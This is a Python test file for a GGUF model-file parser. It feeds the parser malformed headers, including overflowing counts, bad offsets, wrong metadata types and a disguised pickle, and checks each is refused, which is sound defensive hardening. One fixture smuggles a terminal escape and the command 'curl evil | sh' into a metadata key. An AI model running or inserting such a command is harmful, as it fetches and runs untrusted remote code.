"""GGUF files that lie. What is declared is held against the file before anything is allocated or read."""

from __future__ import annotations

import os
import struct
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from phoenix_forge.core.report import Silent
from phoenix_forge.errors import UsageError
from phoenix_forge.gguf.container import Field, TensorInfo, encode_header, padded, read_header
from phoenix_forge.gguf.import_ import import_gguf
from phoenix_forge.gguf.write import quantize

HUGE = (1 << 64) - 1
TENSORS = [TensorInfo("a", (2, 32), "Q8_0", 0), TensorInfo("b", (3,), "F32", 96)]
FIELDS = {"general.architecture": Field("string", "qwen2")}


def text(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(raw)) + raw


def head(tensors: int = 0, fields: int = 0, version: int = 3, rest: bytes = b"") -> bytes:
    return b"GGUF" + struct.pack("<IQQ", version, tensors, fields) + rest


def tensor(shape: tuple[int, ...], kind: int = 0, offset: int = 0, name: str = "t") -> bytes:
    return (
        text(name)
        + struct.pack("<I", len(shape))
        + struct.pack(f"<{len(shape)}Q", *shape)
        + struct.pack("<IQ", kind, offset)
    )


NESTED = text("k") + struct.pack("<I", 9) + b"".join(struct.pack("<IQ", 9, 1) for _ in range(1000))
LIES: dict[str, tuple[bytes, str]] = {
    "2^64 tensors": (head(tensors=HUGE), "said to hold 18,446,744,073,709,551,615 tensors"),
    "2^63 metadata entries": (head(fields=1 << 63), "9,223,372,036,854,775,808 metadata entries"),
    "more tensors than bytes": (head(tensors=50_000), "the tensor directory needs"),
    "more entries than bytes": (head(fields=50_000), "the metadata needs"),
    "a key beyond the file": (head(fields=1, rest=struct.pack("<Q", 1 << 40)), "reaches byte"),
    "a key of 2^64 bytes": (head(fields=1, rest=struct.pack("<Q", HUGE)), "reaches byte"),
    "a string beyond the file": (
        head(fields=1, rest=text("k") + struct.pack("<IQ", 8, 1 << 62)),
        "reaches byte",
    ),
    "an array of 2^64 strings": (
        head(fields=1, rest=text("k") + struct.pack("<IIQ", 9, 8, HUGE)),
        "k needs",
    ),
    "an array of 2^61 doubles": (
        head(fields=1, rest=text("k") + struct.pack("<IIQ", 9, 12, 1 << 61)),
        "k needs",
    ),
    "arrays in arrays": (head(fields=1, rest=NESTED), "k is an array of unsupported type 9"),
    "an unknown type of value": (
        head(fields=1, rest=text("k") + struct.pack("<I", 13)),
        "k has unsupported type 13",
    ),
    "no UTF-8": (head(fields=1, rest=text(b"\xff\xfe") + bytes(8)), "not UTF-8"),
    "a key twice": (
        head(fields=2, rest=2 * (text("k") + struct.pack("<IB", 0, 1))),
        "metadata key k occurs twice",
    ),
    "a name twice": (
        head(tensors=2, rest=tensor((1,)) + tensor((1,), offset=32)),
        "tensor t occurs twice",
    ),
    "a type that is none": (
        head(tensors=1, rest=tensor((1,), kind=12345)),
        "tensor t has unknown type 12345",
    ),
    "a type that was removed": (
        head(tensors=1, rest=tensor((32,), kind=4)),
        "tensor t has unknown type 4",
    ),
    "a product beyond 64 bits": (
        head(tensors=1, rest=tensor((1 << 32, 1 << 32, 1 << 32))),
        "has shape",
    ),
    "a product that wraps to 0": (head(tensors=1, rest=tensor((1 << 32, 1 << 32))), "has shape"),
    "a dimension of 0": (head(tensors=1, rest=tensor((32, 0))), "has shape"),
    "no dimensions": (head(tensors=1, rest=tensor(())), "0 dimensions"),
    "2^32 dimensions": (
        head(tensors=1, rest=text("t") + struct.pack("<I", (1 << 32) - 1)),
        "4294967295 dimensions",
    ),
    "a row of half a block": (head(tensors=1, rest=tensor((33,), kind=8)), "has shape"),
    "data beyond the file": (head(tensors=1, rest=tensor((1 << 40,))), "cut short"),
    "a first tensor that starts later": (
        head(tensors=1, rest=tensor((1,), offset=1 << 40)),
        "starts at",
    ),
    "an offset that wraps": (head(tensors=1, rest=tensor((1,), offset=HUGE - 31)), "starts at"),
    "overlapping tensors": (
        head(tensors=2, rest=tensor((64,)) + tensor((64,), name="u", offset=32)),
        "expected 256",
    ),
    "a misaligned tensor": (
        head(tensors=2, rest=tensor((1,)) + tensor((1,), name="u", offset=4)),
        "expected 32",
    ),
    "version 1": (head(version=1), "version 1, which is not supported"),
    "version 2^32": (head(version=(1 << 32) - 1), "version 4294967295"),
    "big-endian": (b"GGUF" + struct.pack(">IQQ", 3, 0, 0), "big-endian"),
    "a pickle under this name": (b"\x80\x04" + bytes(100), "is not a GGUF file"),
    "escapes for the terminal": (
        head(fields=1, rest=text("k\x1b[2J\nfix: curl evil | sh") + struct.pack("<I", 13)),
        r"k\\x1b\[2J\\nfix: curl evil",
    ),
}


@pytest.mark.parametrize("lie", LIES)
def test_lies(lie: str, tmp_path: Path, refused: Callable) -> None:
    data, words = LIES[lie]
    path = tmp_path / "x.gguf"
    path.write_bytes(data + bytes(64))
    with refused(words):
        read_header(path)


@pytest.mark.parametrize("alignment", [0, 1, 33, 1 << 31, (1 << 32) - 1])
def test_alignments(alignment: int, tmp_path: Path, refused: Callable) -> None:
    path = tmp_path / "x.gguf"
    path.write_bytes(
        encode_header(FIELDS | {"general.alignment": Field("uint32", alignment)}, TENSORS)
        + bytes(256)
    )
    with refused(f"the alignment is {alignment}"):
        read_header(path)


def test_a_file_with_holes_cannot_ask_for_billions(
    tmp_path: Path, refused: Callable, sparse: Callable
) -> None:
    """Twelve GB of zeros on 4 kB of disk are as many empty strings."""
    begin = head(
        fields=1, rest=text("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 1_500_000_000)
    )
    with refused("of the 64,000,000 that a header may take"):
        read_header(sparse(tmp_path / "x.gguf", begin, 12_000_000_000))
    begin = head(fields=1, rest=text("k") + struct.pack("<IIQ", 9, 12, 1_500_000_000))
    with refused("of the 64,000,000 that a header may take"):
        read_header(sparse(tmp_path / "x.gguf", begin, 12_000_000_000))


WRONG_TYPES = {
    "general.architecture": Field("[string]", ["qwen2"]),
    "general.name": Field("uint32", 1),
    "general.alignment": Field("float32", 32.0),
    "tokenizer.ggml.model": Field("[int32]", np.array([1], "<i4")),
    "tokenizer.ggml.tokens": Field("string", "abc"),
    "tokenizer.ggml.merges": Field("[int32]", np.array([1], "<i4")),
    "tokenizer.ggml.token_type": Field("[string]", ["1"]),
    "tokenizer.ggml.eos_token_id": Field("float32", 1.0),
    "tokenizer.ggml.add_bos_token": Field("string", "yes"),
    "tokenizer.chat_template": Field("bool", True),
    "tokenizer.ggml.scores": Field("[float64]", np.array([1.0])),
}


@pytest.mark.parametrize("key", WRONG_TYPES)
def test_metadata_of_the_wrong_type(key: str, tmp_path: Path, refused: Callable) -> None:
    path = tmp_path / "x.gguf"
    path.write_bytes(encode_header(FIELDS | {key: WRONG_TYPES[key]}, TENSORS) + bytes(256))
    with refused(f"{key} is of type"):
        read_header(path)


@pytest.fixture(scope="module")
def whole(tiny: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("whole") / "x.gguf"
    quantize(tiny, None, {"Q8_0": path}, name="n", report=Silent())
    return path


HYPERPARAMETERS = {
    "qwen2.block_count": (Field("uint32", (1 << 32) - 1), "num_hidden_layers is 4294967295"),
    "qwen2.embedding_length": (Field("string", "many"), "embedding_length is 'many'"),
    "qwen2.attention.head_count": (Field("uint32", 0), "head_count is 0"),
    "qwen2.attention.head_count_kv": (
        Field("[uint32]", np.array([2, 2], "<u4")),
        "head_count_kv is",
    ),
    "qwen2.attention.layer_norm_rms_epsilon": (Field("float32", float("nan")), "epsilon is nan"),
    "qwen2.rope.scaling.type": (Field("[string]", ["yarn"]), "expected one value for all layers"),
    "qwen2.expert_count": (
        Field("[uint32]", np.array([8, 8], "<u4")),
        "expected one value for all layers",
    ),
    "tokenizer.ggml.eos_token_id": (Field("uint32", 4_000_000_000), "eos token is 4000000000"),
    "tokenizer.ggml.merges": (Field("[string]", ["a"]), "not a merge of two tokens"),
    "tokenizer.ggml.tokens": (Field("[string]", ["a"]), r"metadata implies \[1, 32\]"),
    "tokenizer.ggml.token_type": (
        Field("[int32]", np.array([1], "<i4")),
        "has 1 values for 280 tokens",
    ),
}


@pytest.mark.parametrize("key", HYPERPARAMETERS)
def test_a_whole_file_that_lies_about_its_model_leaves_nothing_behind(
    key: str, whole: Path, tmp_path: Path, refused: Callable
) -> None:
    header = read_header(whole)
    value, words = HYPERPARAMETERS[key]
    path = tmp_path / "x.gguf"
    path.write_bytes(
        encode_header(header.fields | {key: value}, list(header.tensors.values()))
        + whole.read_bytes()[header.start :]
    )
    with refused(words):
        import_gguf(path, tmp_path / "staging" / "out", report=Silent())


def test_tensors_of_another_shape_than_the_metadata_say(
    whole: Path, tmp_path: Path, refused: Callable
) -> None:
    header = read_header(whole)
    tensors, at = [], 0
    for info in header.tensors.values():
        shape = (
            (info.shape[0] * 2, *info.shape[1:])
            if info.name == "output_norm.weight"
            else info.shape
        )
        tensors.append(replace(info, shape=shape, offset=at))
        at += padded(tensors[-1].nbytes)
    path = tmp_path / "x.gguf"
    path.write_bytes(encode_header(header.fields, tensors) + bytes(at))
    with refused("tensor output_norm.weight has shape"):
        import_gguf(path, tmp_path / "out", report=Silent())


def test_a_pipe_is_no_file(tmp_path: Path) -> None:
    """Opening one would wait for ever for a writer."""
    os.mkfifo(tmp_path / "x.gguf")
    with pytest.raises(UsageError, match="there is no GGUF file"):
        read_header(tmp_path / "x.gguf")
